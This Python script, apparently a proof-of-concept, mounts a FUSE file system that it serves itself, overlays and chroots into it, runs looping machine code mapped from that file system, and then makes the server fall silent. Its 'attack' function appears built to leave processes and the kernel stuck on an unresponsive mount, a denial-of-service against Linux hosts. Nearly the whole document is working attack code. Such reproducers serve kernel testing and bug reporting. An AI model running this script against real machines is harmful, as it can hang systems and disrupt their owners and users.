#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""silent_fs.py FOLDER: in namespaces of its own, a process whose root and whose code are on a file system that it serves itself. It
prints "silent" when this answers no more. FOLDER has a node of /dev/fuse named device.
"""
import ctypes
import mmap
import os
import platform
import struct
import sys
import threading
import time

LOOP = {"x86_64": b"\xeb\xfe", "aarch64": b"\x00\x00\x00\x14", "s390x": b"\xa7\xf4\x00\x00"}.get(platform.machine())
LOOKUP, FORGET, GETATTR, OPEN, READ, STATFS, RELEASE, FLUSH, INIT, OPENDIR, RELEASEDIR, ACCESS, BATCH = \
    1, 2, 3, 14, 15, 17, 18, 25, 26, 27, 29, 34, 42


class Server:
    """A file system of FUSE: a folder with a file of code and an empty folder tmp."""

    def __init__(self, device, where):
        self.fd, self.code = os.open(device, os.O_RDWR), LOOP * 2048
        mount(b"silent", where, b"fuse", f"fd={self.fd},rootmode=40000,user_id=0,group_id=0".encode())

    @staticmethod
    def attributes(node, size):
        mode = 0o100755 if node == 2 else 0o040777
        return struct.pack("<6Q10I", node, size, 8, 0, 0, 0, 0, 0, 0, mode, 1, 0, 0, 0, 4096, 0)

    def answer(self, opcode, node, body):
        """What the kernel gets; a number is an error, None nothing at all."""
        if opcode == INIT:
            return struct.pack("<4I2H2I2H8I", 7, 31, 65536, 0, 12, 9, 65536, 1, 0, 0, *[0] * 8)
        if opcode == LOOKUP:
            child = {b"code": 2, b"tmp": 3}.get(body.rstrip(b"\0"))
            return -2 if node != 1 or not child else \
                struct.pack("<4Q2I", child, 0, 0, 0, 0, 0) + self.attributes(child, len(self.code))
        if opcode == GETATTR:
            return struct.pack("<Q2I", 0, 0, 0) + self.attributes(node, len(self.code))
        if opcode in (OPEN, OPENDIR):
            return struct.pack("<Q2I", node, 0, 0)
        if opcode == STATFS:
            return struct.pack("<5Q10I", 1, 0, 0, 1, 0, 4096, 255, *[0] * 8)
        if opcode == READ:
            offset, size = struct.unpack_from("<QI", body, 8)
            return self.code[offset:offset + size]
        return None if opcode in (FORGET, BATCH) else b"" if opcode in (RELEASE, FLUSH, RELEASEDIR, ACCESS) else -38

    def serve(self, stop):
        """Answers until a byte comes. Then requests are taken, and nobody hears of them again."""
        silent = threading.Event()
        threading.Thread(target=lambda: (os.read(stop, 1), silent.set()), daemon=True).start()
        while True:
            request = os.read(self.fd, 1 << 18)
            _, opcode, unique, node = struct.unpack_from("<2I2Q", request)
            answer = None if silent.is_set() else self.answer(opcode, node, request[40:])
            if answer is not None:
                error, body = (answer, b"") if isinstance(answer, int) else (0, answer)
                os.write(self.fd, struct.pack("<IiQ", 16 + len(body), error, unique) + body)


def mount(source, where, kind, data):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(source, where.encode(), kind, 0, data):
        raise OSError(ctypes.get_errno(), f"mount {kind} at {where}")


def run_code(fd):
    """A thread that stays in code of a file, or of memory for -1."""
    length = 4096 if fd < 0 else os.fstat(fd).st_size
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype, libc.mmap.argtypes = ctypes.c_void_p, [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
    at = libc.mmap(None, length, mmap.PROT_READ | mmap.PROT_EXEC | (mmap.PROT_WRITE if fd < 0 else 0),
                   mmap.MAP_PRIVATE | (mmap.MAP_ANONYMOUS if fd < 0 else 0), fd, 0)
    if fd < 0:
        ctypes.memmove(at, LOOP * 64, len(LOOP) * 64)
    threading.Thread(target=ctypes.CFUNCTYPE(None)(at), daemon=True).start()


def attack(scratch):
    """In namespaces of its own: mounts, runs, says so, and lets the file system go silent."""
    for name in ("fuse", "upper", "work", "root"):
        os.mkdir(os.path.join(scratch, name))
    server = Server(os.path.join(scratch, "device"), os.path.join(scratch, "fuse"))
    stop, tell = os.pipe()
    if os.fork() == 0:
        server.serve(stop)
    # When the server is gone, nobody may keep its connection.
    os.close(server.fd)
    os.chdir(scratch)
    mount(b"overlay", "root", b"overlay", b"lowerdir=fuse,upperdir=upper,workdir=work,userxattr")
    fd = os.open("root/code", os.O_RDONLY)
    os.chroot("root")
    run_code(fd)
    run_code(-1)
    time.sleep(0.5)
    os.write(tell, b"x")
    time.sleep(0.2)
    print("silent", flush=True)
    time.sleep(120)


attack(sys.argv[1])
